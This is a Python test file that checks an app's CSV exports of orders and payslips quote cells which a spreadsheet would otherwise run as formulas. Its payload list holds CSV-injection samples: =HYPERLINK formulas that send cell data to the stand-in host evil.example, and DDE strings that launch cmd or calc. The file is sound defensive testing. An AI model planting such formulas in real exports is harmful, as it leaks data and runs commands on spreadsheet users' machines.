"""Issue #18 item 8: CSV cells a spreadsheet would run as formulas are written as text, in every CSV writer
(before: the restore's order export wrote `=HYPERLINK(…)` notes raw, payslips wrote adjustment reasons raw)."""

from __future__ import annotations

import csv
import datetime as dt
import re
from pathlib import Path
from types import SimpleNamespace

from tests.conftest import Api
from tests.platform.payroll.test_payroll_api import DAY, _day_with_work, _parse
from waimai.core.csvsafe import safe_cell
from waimai.firewall.recovery.restore import export_orders

PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|calc",
            "-2+3", "\tleading tab", "\rleading CR"]


def test_every_formula_start_is_quoted_and_plain_numbers_are_not() -> None:
    for p in PAYLOADS:
        assert safe_cell(p) == "'" + p
    for keep in ("-3.05", "+8613800000001", "12", "plain note", "", 42, -7, 1.5, None):
        assert safe_cell(keep) == keep


def test_the_restore_export_quotes_customer_notes(tmp_path: Path) -> None:
    manifest = SimpleNamespace(id="b1", created_at=dt.datetime(2026, 12, 1, tzinfo=dt.UTC))
    rows = [{"id": i, "number": f"W{i}", "created_at": dt.datetime(2026, 12, 1, 4, tzinfo=dt.UTC), "status": "paid",
             "customer_id": 1, "merchant_id": 1, "delivery_point_id": 1, "payment_method": "cod", "source": "app",
             "total_fen": 900, "contact_phone": "13800000001", "note": note,
             "lines": [{"name": "=cmd()", "quantity": 1}]} for i, note in enumerate(PAYLOADS, 1)]
    _json, path = export_orders(tmp_path, "r1", manifest, rows, [])  # type: ignore[arg-type]
    with path.open(encoding="utf-8", newline="") as f:
        out = list(csv.DictReader(f))
    assert [r["note"] for r in out] == ["'" + p for p in PAYLOADS]
    assert all(r["items"] == "'=cmd() x1" for r in out) and out[0]["total_fen"] == "900"


def test_payslips_quote_adjustment_reasons(api: Api) -> None:
    _day_with_work(api)
    c, ops = api.c, api.h("ops")
    reason = '=HYPERLINK("http://evil.example","pay")'
    r = c.post("/api/v1/payroll/adjustments", json={"rider_id": 1, "amount_fen": -300, "reason": reason,
                                                    "kind": "deduction", "date": str(DAY)}, headers=ops)
    assert r.status_code == 201, r.text
    pid = c.post("/api/v1/payroll/periods", json={"kind": "day", "date": str(DAY)}, headers=ops).json()[0]["period_id"]
    slips = c.get(f"/api/v1/payroll/periods/{pid}/payslips", headers=ops).json()
    one = next(s for s in slips if s["rider_id"] == 1)
    rows = _parse(c.get(f"/api/v1/payroll/payslips/{one['id']}.csv", headers=api.h("rider")).text)
    adj = next(r for r in rows if "HYPERLINK" in r["note"])
    assert adj["note"].startswith("'=HYPERLINK") and adj["amount_yuan"] == "-3.00"  # numbers stay numbers
    assert not any(v.startswith(("=", "+", "@")) for row in rows for v in row.values())


def test_no_csv_writer_bypasses_the_helper() -> None:
    """One writer for the whole tree: a new `csv.writer` elsewhere would write cells raw."""
    root = Path(__file__).resolve().parents[2] / "waimai"
    raw = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [str(p.relative_to(root)) for p in root.rglob("*.py")
                 if p.name != "csvsafe.py" and raw.search(p.read_text(encoding="utf-8"))]
    assert offenders == []
